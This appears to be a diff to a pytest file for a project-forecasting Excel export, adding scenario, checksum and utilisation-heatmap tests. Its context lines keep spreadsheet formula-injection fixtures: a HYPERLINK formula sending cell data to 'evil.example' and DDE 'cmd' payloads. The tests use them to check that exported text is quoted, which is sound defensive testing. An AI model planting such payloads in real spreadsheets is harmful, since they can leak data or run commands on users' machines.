@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import csv
+import hashlib
+import functools
 import os
+from pathlib import Path
 
 import numpy as np
 import openpyxl
@@ -144,6 +147,8 @@ HOSTILE_PROJECTS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' 
 HOSTILE_PEOPLE = ["=1+2", "-Ann Lee", "@Bo", "Зоя Ли", "李 娜", "Émile 🙂"]
 HOSTILE_MANAGERS = ["=cmd|' /C notepad'!'A1'", "+Mgr", "\tTab Mgr"]
 N_TRIALS = 500
+REPO = Path(__file__).resolve().parent.parent
+SCENARIOS = [REPO / "data/scenarios/one-more-pm.yaml"]  # a path: read and checksummed like the tables
 
 
 def _hostile(sample):
@@ -167,12 +172,17 @@ def _hostile(sample):
     return tasks, projects, people, requests
 
 
-@pytest.fixture(scope="module")
-def data():
+@functools.lru_cache(maxsize=1)
+def small_org():
+    """8 projects, ~2,800 tasks, 3 projects open at as_of: small enough for fast tests (shared with test_cli)."""
     from pmo_forecast import generate_sample
 
-    # 8 projects, ~2,800 tasks of which 3 projects open at as_of: small enough for a fast test
-    return _hostile(generate_sample(seed=7, n_projects=8))
+    return generate_sample(seed=7, n_projects=8)
+
+
+@pytest.fixture(scope="module")
+def data():
+    return _hostile(small_org())
 
 
 @pytest.fixture(scope="module")
@@ -180,7 +190,8 @@ def pack(data, tmp_path_factory):
     tasks, projects, people, requests = data
     out = tmp_path_factory.mktemp("pack")
     return X.export_planning_pack(out / "pack.xlsx", tasks=tasks, projects=projects, people=people,
-                                  requests=requests, n_trials=N_TRIALS, random_state=3, progress=False)
+                                  requests=requests, scenarios=SCENARIOS, n_trials=N_TRIALS, random_state=3,
+                                  progress=False)
 
 
 @pytest.fixture(scope="module")
@@ -203,7 +214,8 @@ def _block(ws, title):
 
 
 def test_sheets_in_order(book):
-    assert book.sheetnames == ["Summary", "Projects", "Accuracy", "Capacity", "Data quality", "Assumptions"]
+    assert book.sheetnames == ["Summary", "Projects", "Accuracy", "Capacity", "Scenarios", "Data quality",
+                               "Assumptions"]
 
 
 def test_no_formula_anywhere_and_hostile_text_is_quoted(book):
@@ -280,7 +292,8 @@ def test_assumptions_record_inputs_and_settings(book):
     run = _block(ws, "Run").set_index("setting")["value"]
     assert run["Monte Carlo trials"] == N_TRIALS and run["random seed"] == 3
     inputs = _block(ws, "Input files")
-    assert inputs["input"].tolist() == ["tasks", "projects", "people", "requests"]
+    assert inputs["input"].tolist() == ["tasks", "projects", "people", "requests", "scenario one-more-pm"]
+    assert inputs["sha256"].iloc[-1] == hashlib.sha256(SCENARIOS[0].read_bytes()).hexdigest()
     settings = _block(ws, "Model settings").set_index("setting")["value"]
     assert settings["accuracy model: random_state"] == 3
 
@@ -298,7 +311,8 @@ def test_summary_html_is_self_contained_and_escaped(pack):
 def test_rerun_gives_identical_numbers(pack, data, tmp_path):
     tasks, projects, people, requests = data
     again = X.export_planning_pack(tmp_path / "pack.xlsx", tasks=tasks, projects=projects, people=people,
-                                   requests=requests, n_trials=N_TRIALS, random_state=3, progress=False)
+                                   requests=requests, scenarios=SCENARIOS, n_trials=N_TRIALS, random_state=3,
+                                   progress=False)
     first = {f.name: f for f in pack.files}
     for f in again.files:
         if f.suffix == ".csv" and f.name != "pack-assumptions.csv":
@@ -334,10 +348,8 @@ def test_interrupted_export_keeps_the_previous_pack(pack, data, tmp_path, monkey
         raise KeyboardInterrupt
 
     monkeypatch.setattr(X, "write_workbook", broken)
-    tasks, projects, people, requests = data
     with pytest.raises(KeyboardInterrupt):
-        X.export_planning_pack(out / "pack.xlsx", tasks=tasks, projects=projects, requests=requests,
-                               n_trials=50, progress=False)
+        X.export_planning_pack(out / "pack.xlsx", tasks=data[0], n_trials=50, progress=False)
     assert sorted(p.name for p in out.iterdir()) == ["pack.xlsx", "summary.html"]
     assert (out / "pack.xlsx").read_bytes() == b"previous pack"
     assert (out / "summary.html").read_text() == "previous summary"
@@ -346,3 +358,30 @@ def test_interrupted_export_keeps_the_previous_pack(pack, data, tmp_path, monkey
 def test_not_an_xlsx_path_is_refused(tmp_path, data):
     with pytest.raises(ValueError, match="give a path ending in .xlsx"):
         X.export_planning_pack(tmp_path / "pack.xls", tasks=data[0], progress=False)
+
+
+def test_scenarios_sheet_matches_the_comparison(pack, book):
+    sheet = _block(book["Scenarios"], "Each scenario, then its change against the baseline").set_index("measure")
+    comp = pack.forecasts["comparison"]
+    assert [r.scenario.name for r in comp.results] == ["baseline", "one-more-pm"]  # a baseline is added first
+    deltas = comp.deltas()
+    np.testing.assert_allclose(sheet["change: one-more-pm"].astype(float), deltas["one-more-pm"].to_numpy(float),
+                               rtol=1e-12)
+    assert sheet.loc["approval wait P90 (working days)", "one-more-pm"] <= \
+        sheet.loc["approval wait P90 (working days)", "baseline"]  # one more PM never waits longer
+
+
+def test_utilisation_heatmap_and_chart(pack, book):
+    import zipfile
+
+    ws = book["Capacity"]
+    rules = [r for rng in ws.conditional_formatting for r in rng.rules]
+    assert any(r.type == "colorScale" for r in rules)
+    heat = _block(ws, "Person by week: utilisation (green < 50%, yellow 90%, red > 110%)").set_index("person")
+    wide = pack.forecasts["workload"].wide("utilisation")
+    week = heat.columns[-1]
+    expect = wide[pd.Timestamp(week)].replace(np.inf, np.nan).reindex(heat.index).to_numpy(float)
+    np.testing.assert_allclose(heat[week].astype(float).to_numpy(), expect, rtol=1e-12)
+    with zipfile.ZipFile(pack.path) as z:
+        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
+    assert any("Utilisation by week" in c for c in charts)
